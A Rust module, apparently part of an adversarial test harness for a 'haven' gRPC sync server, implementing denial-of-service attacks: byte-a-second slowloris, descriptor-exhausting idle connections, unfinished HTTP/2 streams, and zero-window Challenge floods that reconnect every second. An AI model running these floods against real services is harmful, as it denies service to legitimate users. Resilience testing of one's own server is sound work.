//! Many who hold on to what they have, and do next to nothing.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use haven_feed::roster::consent::Role;
use haven_wire::pb;
use haven_wire::session::role_to_pb;
use prost::Message as _;
use rustix::process::{Resource, getrlimit};
use tokio::io::{AsyncWriteExt as _, copy, sink};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};

use super::Way;
use crate::camp::{THIEF, Target};
use crate::client::bytes;
use crate::frames::{END_HEADERS, HEADERS, calls, frame, head, preface, stream, unfinished as begun};

/// Who says a byte a second, and who begins what it doesn't end: four times as many as may come in unknown.
const CROWD: usize = 1_000;
/// Who says nothing at all, if there are descriptors for so many.
const IDLE: u64 = 10_000;
/// How many of them come at once.
const OPENERS: u64 = 50;
/// Descriptors that stay free for the honest.
const RESERVED: u64 = 512;
/// Who asks and has no room for the answer: as many as may come in unknown.
const ASKING: usize = 256;
/// Calls at once, as many as a connection may have.
const STREAMS: u32 = 64;
/// A byte, or another try, so often.
const TICK: Duration = Duration::from_secs(1);
/// SETTINGS_INITIAL_WINDOW_SIZE of nothing (RFC 9113 §6.5.2): no answer may be sent.
const NO_WINDOW: (u16, u32) = (4, 0);

/// A byte a second: the odd ones of the preface, the even ones of headers.
pub(super) async fn loris(way: &Way) {
    let head = frame(HEADERS, END_HEADERS, stream(0), &head("/haven.sync.v1.SessionService/Challenge"));
    let slow: Arc<[u8]> = [preface(&[]), head].concat().into();
    let at_once = preface(&[]).len();
    crowd(way, CROWD, move |number, stream| {
        let slow = slow.clone();
        drip(stream, slow, if number % 2 == 0 { at_once } else { 0 })
    })
    .await;
}

async fn drip(mut stream: TcpStream, what: Arc<[u8]>, at_once: usize) -> io::Result<()> {
    stream.write_all(&what[..at_once]).await?;
    let mut tick = interval(TICK);
    for byte in &what[at_once..] {
        tick.tick().await;
        stream.write_all(&[*byte]).await?;
    }
    until_closed(stream).await
}

/// As many as there are descriptors for, whether they're shown out or not.
pub(super) async fn idle(way: &Way) {
    let allowed = getrlimit(Resource::Nofile).current.unwrap_or(IDLE);
    let each = IDLE.min(allowed.saturating_sub(RESERVED)) / OPENERS;
    let mut crowd = JoinSet::new();
    for _ in 0..OPENERS {
        let way = way.clone();
        crowd.spawn(async move {
            let mut idle = Vec::new();
            for _ in 0..each {
                // Who got no connection is one less.
                idle.extend(way.open().await);
            }
            std::future::pending::<()>().await;
        });
    }
    crowd.join_all().await;
}

/// Spaces that are begun and never whole.
pub(super) async fn unfinished(way: &Way) {
    let said: Arc<[u8]> = begun("/haven.sync.v1.SpaceService/CreateSpace", STREAMS).into();
    crowd(way, CROWD, move |_, stream| say(stream, said.clone())).await;
}

/// Challenges for which there is no room.
pub(super) async fn windows(target: &Target, way: &Way) {
    let request = pb::ChallengeRequest {
        space: bytes(target.vault.space()),
        member: bytes(target.vault.devices[THIEF].feed()),
        role: role_to_pb(Role::Feed).into(),
    };
    let head = head("/haven.sync.v1.SessionService/Challenge");
    let said: Arc<[u8]> = calls(&[NO_WINDOW], &head, &request.encode_to_vec(), STREAMS).into();
    crowd(way, ASKING, move |_, stream| say(stream, said.clone())).await;
}

async fn say(mut stream: TcpStream, what: Arc<[u8]>) -> io::Result<()> {
    stream.write_all(&what).await?;
    until_closed(stream).await
}

async fn until_closed(mut stream: TcpStream) -> io::Result<()> {
    copy(&mut stream, &mut sink()).await.map(drop)
}

/// So many who each do the same, and come again with the next tick once they're shown out.
async fn crowd<F>(way: &Way, count: usize, act: impl Fn(usize, TcpStream) -> F + Clone + Send + 'static)
where
    F: Future<Output = io::Result<()>> + Send,
{
    let mut crowd = JoinSet::new();
    for number in 0..count {
        let (way, act) = (way.clone(), act.clone());
        crowd.spawn(async move {
            let mut tick = interval(TICK);
            tick.set_missed_tick_behavior(MissedTickBehavior::Delay);
            loop {
                tick.tick().await;
                if let Ok(stream) = way.open().await {
                    // However it ended, there is a next time.
                    let _ = act(number, stream).await;
                }
            }
        });
    }
    crowd.join_all().await;
}
